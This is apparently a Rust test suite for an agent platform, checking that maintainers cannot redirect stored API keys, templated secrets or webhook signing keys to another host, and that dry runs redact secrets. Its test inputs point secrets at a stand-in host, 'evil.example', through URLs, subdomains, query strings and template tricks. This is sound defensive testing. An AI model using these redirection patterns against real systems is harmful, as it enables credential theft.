//! Whoever may change an agent need not know its secrets, and has no way to have them sent to themselves.

use http::{Method, StatusCode};
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;

use crate::desk::{Answered, Body, Client, Desk};

pub(crate) const ELSEWHERE: &str = "https://evil.example/take";

pub(crate) fn list(desk: &Desk) -> String {
    format!("/api/v1/agents/{}/functions", desk.agent)
}

pub(crate) fn refused(answered: &Answered, field: &str) {
    assert_eq!(answered.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", answered.text);
    let problem = answered.json();
    assert_eq!(problem["field"], field, "{}", answered.text);
    assert!(
        answered.text.contains("again") || answered.text.contains("owner"),
        "{}",
        answered.text
    );
}

pub(crate) async fn made(owner: &Client, desk: &Desk, data: Value) -> String {
    named(owner, desk, "ask", data).await
}

pub(crate) async fn named(owner: &Client, desk: &Desk, name: &str, data: Value) -> String {
    let new = json!({"type": "json_api", "name": name, "data": data});
    let made = owner.post(&list(desk), new).await;
    assert_eq!(made.status, StatusCode::CREATED, "{}", made.text);
    format!("/api/v1/functions/{}", made.json()["id"].as_str().unwrap())
}

pub(crate) async fn stored(desk: &Desk, path: &str) -> String {
    let id = path.rsplit('/').next().unwrap();
    desk.made(&format!("select data::text from functions where id = '{id}'")).await
}

/// What is stored of a function, with another address.
fn moved(url: &str) -> Value {
    json!({"data": {"url": url, "headers": {"Authorization": "********"}}})
}

#[tokio::test]
async fn a_kept_key_stays_with_its_host() {
    let desk = Desk::open().await;
    let owner = desk.sign_in("owner@example.com").await;
    let maintainer = desk.sign_in("maintainer@example.com").await;
    let data = json!({"url": "https://crm.example/a", "headers": {"Authorization": "Bearer k1"}});
    let path = made(&owner, &desk, data).await;
    for url in [
        ELSEWHERE,
        "http://crm.example/a",
        "https://crm.example:8443/a",
        "https://crm.example.evil.example/",
        "https://{{ agent.name }}.example/",
        "https://{{ 'evil' }}.example/",
    ] {
        for who in [&maintainer, &owner] {
            refused(&who.patch(&path, moved(url)).await, "data.headers.Authorization");
        }
    }
    assert!(stored(&desk, &path).await.contains("https://crm.example/a"));
    for url in ["https://crm.example/other?x=1", "HTTPS://CRM.example:443/b"] {
        let same = maintainer.patch(&path, moved(url)).await;
        assert_eq!(same.status, StatusCode::OK, "{}", same.text);
    }
    assert!(stored(&desk, &path).await.contains("Bearer k1"));
    let page = format!("/agents/{}/functions/{}", desk.agent, path.rsplit('/').next().unwrap());
    let sent = [
        ("name", "ask"),
        ("data.url", ELSEWHERE),
        ("data.headers", "Authorization: ********"),
        ("is_active", "yes"),
    ];
    let form = maintainer.form(&page, &sent).await;
    assert_eq!(form.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(form.text.contains("type the secret again"), "{}", form.text);

    // A detour by another kind of function.
    let form = json!({"type": "form", "data": {"title": "x", "headers": {"Authorization": "********"}},
        "variables": [{"name": "a", "type": "text"}]});
    assert_eq!(maintainer.patch(&path, form).await.status, StatusCode::OK);
    let back = json!({"type": "json_api", "data": moved(ELSEWHERE)["data"]});
    refused(&maintainer.patch(&path, back).await, "data.headers.Authorization");

    // Typed again, it goes wherever one says.
    let typed = json!({"type": "json_api", "data": {"url": ELSEWHERE, "headers": {"Authorization": "Bearer own"}}});
    let typed = maintainer.patch(&path, typed).await;
    assert_eq!(typed.status, StatusCode::OK, "{}", typed.text);
}

#[tokio::test]
async fn an_earlier_version_takes_no_later_key_to_its_host() {
    let desk = Desk::open().await;
    let owner = desk.sign_in("owner@example.com").await;
    let maintainer = desk.sign_in("maintainer@example.com").await;
    let evil = json!({"url": ELSEWHERE, "headers": {"Authorization": "Bearer own"}});
    let path = made(&maintainer, &desk, evil).await;
    let real =
        json!({"data": {"url": "https://crm.example/", "headers": {"Authorization": "Bearer k1"}}});
    assert_eq!(owner.patch(&path, real).await.status, StatusCode::OK);
    let versions = maintainer.get(&format!("/api/v1/agents/{}/versions", desk.agent)).await.json();
    let first = versions["items"].as_array().unwrap().last().unwrap()["n"].clone();
    let back = format!("/api/v1/agents/{}/versions/{first}/restore", desk.agent);
    let back = maintainer.post(&back, json!({})).await;
    assert_eq!(back.status, StatusCode::OK, "{}", back.text);
    assert_eq!(back.json()["missing"], json!(["headers.Authorization"]));
    let stored = stored(&desk, &path).await;
    assert!(stored.contains("evil.example") && !stored.contains("k1"), "{stored}");
}

#[tokio::test]
async fn a_named_secret_goes_where_those_who_know_it_say() {
    let desk = Desk::open().await;
    let owner = desk.sign_in("owner@example.com").await;
    let maintainer = desk.sign_in("maintainer@example.com").await;
    let agent = format!("/api/v1/agents/{}", desk.agent);
    let set = json!({"settings": {"secrets": {"CRM": "k1-value"}}});
    assert_eq!(owner.patch(&agent, set).await.status, StatusCode::OK);
    let data = |url: &str, text: &str| json!({"url": url, "headers": {"X-Key": text}});
    let path = made(&owner, &desk, data("https://crm.example/", "{{ secrets.CRM }}")).await;

    for text in ["{{ secrets.CRM }}", "{{ secrets['CRM'] }}", "{% set s = secrets %}{{ s.CRM }}"] {
        let patch = json!({"data": data(ELSEWHERE, text)});
        refused(&maintainer.patch(&path, patch).await, "data.url");
        let new = json!({"type": "json_api", "name": "other", "data": data(ELSEWHERE, text)});
        refused(&maintainer.post(&list(&desk), new).await, "data.url");
    }
    for data in [
        json!({"url": "https://evil.example/{{ secrets.CRM }}"}),
        json!({"url": "https://{{ secrets.CRM }}.evil.example/"}),
        json!({"url": ELSEWHERE, "query": {"a": "{{ secrets.CRM }}"}}),
        json!({"url": ELSEWHERE, "body": {"a": ["{{ secrets.CRM }}"]}}),
    ] {
        let new = json!({"type": "json_api", "name": "other", "data": data, "is_active": false});
        refused(&maintainer.post(&list(&desk), new).await, "data.url");
    }
    // A switched off function that is there, and is given the secret later.
    let staged = named(&maintainer, &desk, "staged", data(ELSEWHERE, "nothing")).await;
    let patch = json!({"data": data(ELSEWHERE, "{{ secrets.CRM }}")});
    refused(&maintainer.patch(&staged, patch).await, "data.url");
    maintainer.send(Method::DELETE, &staged, Body::None).await;

    // Where it goes already, it may go for something else.
    let more = json!({"type": "json_api", "name": "more",
        "data": data("https://crm.example/more", "{{ secrets.CRM }}")});
    assert_eq!(maintainer.post(&list(&desk), more).await.status, StatusCode::CREATED);
    // Whoever types it knows it.
    let set = json!({"settings": {"secrets": {"CRM": "k2-value"}}});
    assert_eq!(maintainer.patch(&agent, set).await.status, StatusCode::OK);
    let patch = json!({"data": data("https://new.example/", "{{ secrets.CRM }}")});
    let patched = maintainer.patch(&path, patch).await;
    assert_eq!(patched.status, StatusCode::OK, "{}", patched.text);
    // And an owner answers for it.
    let set = json!({"settings": {"secrets": {"CRM": "k3-value"}}});
    assert_eq!(owner.patch(&agent, set).await.status, StatusCode::OK);
    let patch = json!({"data": data("https://third.example/", "{{ secrets.CRM }}")});
    refused(&maintainer.patch(&path, patch.clone()).await, "data.url");
    assert_eq!(owner.patch(&path, patch).await.status, StatusCode::OK);
}

#[tokio::test]
async fn what_stands_in_the_host_is_not_changed_behind_a_key() {
    let desk = Desk::open().await;
    let owner = desk.sign_in("owner@example.com").await;
    let maintainer = desk.sign_in("maintainer@example.com").await;
    let agent = format!("/api/v1/agents/{}", desk.agent);
    let set = json!({"settings": {"secrets": {"BASE": "https://crm.example", "CRM": "k1-value"}}});
    assert_eq!(owner.patch(&agent, set).await.status, StatusCode::OK);
    let headers = json!({"X-Key": "{{ secrets.CRM }}", "Authorization": "Bearer k2"});
    made(&owner, &desk, json!({"url": "{{ secrets.BASE }}/a", "headers": headers})).await;
    let base = json!({"settings": {"secrets": {"BASE": "https://evil.example"}}});
    refused(&maintainer.patch(&agent, base.clone()).await, "settings");
    // Nor by a draft that is tried, with functions that really ask.
    let draft = json!({"draft": base, "reaches_out": true});
    let tried = maintainer.post(&format!("/agents/{}/try", desk.agent), draft).await;
    refused(&tried, "settings");
    let secrets = format!("/agents/{}/secrets", desk.agent);
    let form = [("name", "BASE"), ("value", "https://evil.example")];
    let form = maintainer.form(&secrets, &form).await;
    assert_eq!(form.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", form.text);
    assert_eq!(owner.patch(&agent, base).await.status, StatusCode::OK);
    let named = json!({"url": "https://{{ agent.name|replace(' ', '') }}.example/",
        "headers": {"Authorization": "Bearer k3"}});
    let named = json!({"type": "json_api", "name": "named", "data": named});
    let named = owner.post(&list(&desk), named).await;
    assert_eq!(named.status, StatusCode::CREATED, "{}", named.text);
    refused(&maintainer.patch(&agent, json!({"name": "Evil"})).await, "settings");
}

#[tokio::test]
async fn a_webhook_that_moves_is_signed_anew() {
    let desk = Desk::open().await;
    let owner = desk.sign_in("owner@example.com").await;
    let maintainer = desk.sign_in("maintainer@example.com").await;
    let agent = format!("/api/v1/agents/{}", desk.agent);
    let webhook = |url: &str, secret: Option<&str>| {
        let mut webhook = json!({"url": url});
        if let Some(secret) = secret {
            webhook["secret"] = json!(secret);
        }
        json!({"settings": {"webhook": webhook}})
    };
    let first = webhook("https://a.example/told", Some("a-long-signing-key"));
    assert_eq!(owner.patch(&agent, first).await.status, StatusCode::OK);
    for secret in [None, Some("********")] {
        for who in [&maintainer, &owner] {
            let refusal = who.patch(&agent, webhook(ELSEWHERE, secret)).await;
            refused(&refusal, "settings.webhook.secret");
        }
    }
    let page = format!("/agents/{}", desk.agent);
    let path = webhook("https://a.example/other", None);
    assert_eq!(maintainer.patch(&agent, path).await.status, StatusCode::OK);
    let typed = webhook("https://b.example/", Some("another-signing-key"));
    assert_eq!(maintainer.patch(&agent, typed).await.status, StatusCode::OK);
    // Back to a version of before, with the key that is for the other server now.
    let versions = maintainer.get(&format!("/api/v1{page}/versions")).await.json();
    let second = versions["items"][1]["n"].clone();
    let back =
        maintainer.post(&format!("/api/v1{page}/versions/{second}/restore"), json!({})).await;
    assert_eq!(back.json()["missing"], json!(["webhook.secret"]), "{}", back.text);
    let stored = desk
        .made(&format!(
            "select private_settings -> 'webhook' ->> 'url' from voice_agents where id = '{}'",
            desk.agent
        ))
        .await;
    assert!(stored.starts_with("https://a.example/"), "{stored}");
}

/// A service that answers each request with nothing. Its address.
async fn silent() -> String {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap().to_string();
    frontdesk::clock::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            let mut asked = vec![0; 16 * 1024];
            let _ = stream.read(&mut asked).await;
            let answer = "HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\n{}";
            let _ = stream.write_all(answer.as_bytes()).await;
        }
    });
    address
}

#[tokio::test]
async fn trying_shows_no_secret_however_it_is_spelled() {
    let service = silent().await;
    let desk = Desk::open_with(&[("ALLOW_PRIVATE_TOOL_URLS", service.clone())]).await;
    let owner = desk.sign_in("owner@example.com").await;
    let agent = format!("/api/v1/agents/{}", desk.agent);
    owner.patch(&agent, json!({"settings": {"secrets": {"CRM": "TopSecret"}}})).await;
    let data = json!({"method": "POST",
        "url": format!("http://{service}/{{{{ secrets.CRM|upper }}}}?a={{{{ secrets.CRM[1:] }}}}"),
        "headers": {"X-Key": "{{ secrets.CRM|reverse }}", "X-Whole": "{{ secrets.CRM }}"},
        "body": {"a": "{{ secrets.CRM|lower }}", "b": "{{ secrets.CRM|list }}"}});
    let path = made(&owner, &desk, data).await;
    let tried = owner.post(&format!("{path}/dry-run"), json!({})).await;
    assert_eq!(tried.status, StatusCode::OK, "{}", tried.text);
    assert_eq!(tried.json()["answer"]["status"], 200, "{}", tried.text);
    for spelled in ["TopSecret", "TOPSECRET", "opSecret", "terceSpoT", "topsecret"] {
        assert!(!tried.text.contains(spelled), "{spelled}: {}", tried.text);
    }
    assert!(tried.json()["request"]["headers"].to_string().contains("[secret]"), "{}", tried.text);
}
